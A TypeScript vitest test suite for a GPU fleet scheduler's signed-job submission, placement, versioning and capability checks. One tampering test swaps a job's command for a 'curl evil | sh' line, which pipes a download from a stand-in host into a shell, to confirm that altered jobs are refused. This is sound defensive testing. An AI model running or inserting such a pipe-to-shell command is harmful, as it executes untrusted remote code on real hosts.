import { randomBytes } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import { FleetError, generateEd25519, signCapability, signJob, type Capability } from '@gpufleet/protocol';
import { processJob, workloadKit, type WorkloadKit } from './__tests__/workload-kit.js';

let kit: WorkloadKit;
afterEach(async () => kit?.close());

function grant(issuer: ReturnType<typeof generateEd25519>, aud: string, can: string[], on = '*'): Capability {
  const now = kit.clock.now();
  return signCapability(
    { v: 1, iss: issuer.did, aud, can: can as Capability['can'], on, nbf: now - 60_000, exp: now + 3_600_000, nonce: randomBytes(12).toString('hex'), prf: [] },
    issuer.privateKeyPem,
  );
}

async function rejection(p: Promise<unknown>): Promise<FleetError> {
  try {
    await p;
  } catch (err) {
    if (FleetError.is(err)) return err;
    throw err;
  }
  throw new Error('expected a refusal');
}

describe('submitting a signed job', () => {
  it('stores version 1, places each allocation on specific GPUs and sends the start to its host', async () => {
    kit = await workloadKit();
    const a = await kit.addNode('gpu-a', { gpus: 2 });
    const b = await kit.addNode('gpu-b', { gpus: 2 });
    const res = await kit.submit(processJob('llama', 3));
    expect(res.created).toBe(true);
    expect(res.version).toBe(1);
    expect(res.plan.placements).toHaveLength(3);
    expect(res.plan.failures).toEqual([]);
    const allocs = await kit.allocs('llama');
    expect(allocs.map((x) => `${x.group}-${x.index}`).sort()).toEqual(['web-0', 'web-1', 'web-2']);
    expect(allocs.every((x) => x.status === 'pending' && x.desired === 'run' && x.gpus.length === 1)).toBe(true);
    // No GPU twice, and every one is a GPU of the node it is on.
    const gpus = allocs.map((x) => `${x.nodeId}/${x.gpus[0]!.index}`);
    expect(new Set(gpus).size).toBe(3);
    for (const x of allocs) expect(x.gpus[0]!.uuid).toBe(`GPU-${x.hostname}-${x.gpus[0]!.index}`);
    expect(new Set(allocs.map((x) => x.nodeId))).toEqual(new Set([a, b]));
    // Each host got the start of its own allocations, with the signed job verbatim.
    const starts = kit.sessions.allocOrders().filter((o) => o.op === 'start');
    expect(starts.map((o) => o.allocId).sort()).toEqual(allocs.map((x) => x.id).sort());
    for (const o of starts) expect(allocs.find((x) => x.id === o.allocId)!.nodeId).toBe(o.nodeId);
    const frame = kit.sessions.frames.find((f) => f.frame.t === 'alloc')!.frame;
    expect(frame.t === 'alloc' && frame.body.op === 'start' && frame.body.placement.job.payload.job.name).toBe('llama');
    // The claims are in the store too.
    expect((await kit.store.listGpuClaims()).map((c) => `${c.nodeId}/${c.gpuIndex}`).sort()).toEqual(gpus.sort());

    const detail = await kit.reads.job('llama');
    expect(detail).toMatchObject({ status: 'pending', version: 1, desired: 3, running: 0, gpus: 3 });
    expect(detail.deployment).toMatchObject({ fromVersion: null, toVersion: 1, state: 'running' });
  });

  it('follows the hosts: running makes the job running, and the deployment succeeds once healthy for healthy_for', async () => {
    kit = await workloadKit();
    await kit.addNode('gpu-a');
    await kit.submit(processJob('svc', 2, { update: { healthy_for: '10s' } }));
    await kit.runAll('svc');
    expect(await kit.reads.job('svc')).toMatchObject({ status: 'running', running: 2 });
    const [first] = await kit.allocs('svc');
    expect(first).toMatchObject({ status: 'running', healthy: true, healthySince: kit.clock.now() });
    await kit.settle();
    expect((await kit.reads.job('svc')).deployment?.state).toBe('running');
    kit.clock.advance(10_000);
    await kit.settle();
    expect((await kit.reads.job('svc')).deployment).toMatchObject({ state: 'succeeded', placed: 2, healthy: 2 });
    // Unhealthy resets the clock: healthySince is cleared.
    await kit.report(first!.id, 'running', { healthy: false, message: 'check failed' });
    expect(await kit.svc.allocation(first!.id)).toMatchObject({ healthy: false, healthySince: null, message: 'check failed' });
  });

  it('a second submission of the same spec is no new version; a changed one is version 2', async () => {
    kit = await workloadKit();
    await kit.addNode('gpu-a');
    await kit.submit(processJob('same', 1));
    const again = await kit.submit(processJob('same', 1));
    expect(again).toMatchObject({ created: false, version: 1 });
    expect(again.plan.placements).toEqual([]);
    expect(again.plan.unchanged).toBe(1);
    expect(await kit.allocs('same')).toHaveLength(1);
    const changed = await kit.submit(processJob('same', 2));
    expect(changed).toMatchObject({ created: true, version: 2 });
    expect((await kit.store.listJobVersions('same')).map((v) => [v.version, v.status])).toEqual([
      [2, 'current'],
      [1, 'superseded'],
    ]);
  });

  it('refuses a job changed after signing (400), an invoker without authority (403) and a capability without workload/run (403)', async () => {
    kit = await workloadKit();
    await kit.addNode('gpu-a');
    const signed = kit.sign(processJob('tamper', 1));
    const changed = structuredClone(signed);
    changed.payload.job.allocations.web!.command = ['sh', '-c', 'curl evil | sh'];
    const bad = await rejection(kit.svc.submit({ signed: changed }, 'token:t'));
    expect(bad.code).toBe('invalid_argument');
    expect(bad.message).toMatch(/does not carry a valid signature/);

    const stranger = generateEd25519();
    const refused = await rejection(kit.submit(processJob('stranger', 1), { key: stranger }));
    expect(refused.code).toBe('permission_denied');
    expect(refused.message).toMatch(/not a fleet root and presents no capability granting workload\/run/);

    const operator = generateEd25519();
    const execOnly = await rejection(kit.submit(processJob('exec-only', 1), { key: operator, capability: grant(kit.root, operator.did, ['exec/run']) }));
    expect(execOnly.code).toBe('permission_denied');
    expect(execOnly.message).toMatch(/workload\/run/);

    const future = kit.sign(processJob('future', 1));
    const late = structuredClone(future);
    late.payload.issuedAt = kit.clock.now() + 3_600_000;
    expect((await rejection(kit.svc.submit({ signed: late }, 't'))).code).toBe('invalid_argument');
    expect(await kit.store.listJobs()).toEqual([]);
    expect(kit.sessions.frames).toEqual([]);
  });

  it('refuses a job whose start frame would be over what an agent accepts', async () => {
    kit = await workloadKit();
    await kit.addNode('gpu-a');
    // Within the spec's limits (65,536 per value), over the frame's: built past the job file's 1 MiB, then signed.
    const small = kit.sign(processJob('big-env', 1));
    const job = structuredClone(small.payload.job);
    job.allocations.web!.env = Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`BIG_${i}`, 'x'.repeat(60_000)]));
    const signed = signJob({ ...small.payload, job }, kit.root.privateKeyPem);
    const big = await rejection(kit.svc.submit({ signed }, 'token:t'));
    expect(big.code).toBe('invalid_argument');
    expect(big.message).toMatch(/start frame would be .* bytes, over the 1,048,576 an agent accepts/);
    expect(await kit.store.listJobs()).toEqual([]);
  });

  it('places a job signed under a capability only on hosts its selector allows', async () => {
    kit = await workloadKit();
    await kit.addNode('gpu-eu', { labels: { region: 'eu' } });
    const us = await kit.addNode('gpu-us', { labels: { region: 'us' } });
    const operator = generateEd25519();
    const cap = grant(kit.root, operator.did, ['workload/run'], 'region=us');
    // Five one-GPU allocations, four GPUs where the capability holds: four placed there, one not at all.
    const res = await kit.submit(processJob('scoped', 5), { key: operator, capability: cap });
    expect(res.plan.placements.map((p) => p.nodeId)).toEqual([us, us, us, us]);
    expect(res.plan.failures).toMatchObject([{ group: 'web', unplaced: 1 }]);
    expect(res.plan.failures[0]!.message).toMatch(/region=us/);
    // The signed spec delivered to the host is untouched (no constraint added to it).
    const frame = kit.sessions.frames.find((f) => f.frame.t === 'alloc')!.frame;
    expect(frame.t === 'alloc' && frame.body.op === 'start' && frame.body.placement.job.payload.job.constraints).toEqual([]);
  });

  it('records what cannot be placed (the job detail says why) and places it when a node joins', async () => {
    kit = await workloadKit();
    await kit.addNode('small', { gpus: 1 });
    const res = await kit.submit(processJob('big', 3));
    expect(res.plan.placements).toHaveLength(1);
    expect(res.plan.failures).toHaveLength(1);
    expect(res.plan.failures[0]).toMatchObject({ group: 'web', unplaced: 2 });
    expect(res.plan.failures[0]!.message).not.toBe('');
    const detail = await kit.reads.job('big');
    expect(detail.placementFailures[0]).toMatchObject({ group: 'web', unplaced: 2 });
    expect(detail.status).toBe('pending');
    // Nothing changed: evaluating again does not place and keeps the failure.
    await kit.settle();
    expect(await kit.allocs('big')).toHaveLength(1);
    await kit.addNode('more', { gpus: 4 });
    await kit.settle();
    expect(await kit.allocs('big')).toHaveLength(3);
    expect((await kit.reads.job('big')).placementFailures).toEqual([]);
  });

  it('a start waits for a node without a session and goes out when it connects', async () => {
    kit = await workloadKit();
    const n = await kit.addNode('gpu-a');
    kit.sessions.connected.delete(n);
    await kit.submit(processJob('later', 1));
    expect(kit.sessions.allocOrders()).toEqual([]);
    kit.reconnect(n);
    const [a] = await kit.allocs('later');
    expect(kit.sessions.allocOrders(n)).toEqual([{ nodeId: n, op: 'start', allocId: a!.id }]);
    // Delivered again on every reconnect while it is wanted (the host checks the spec hash).
    kit.reconnect(n);
    expect(kit.sessions.allocOrders(n).filter((o) => o.op === 'start')).toHaveLength(2);
  });
});
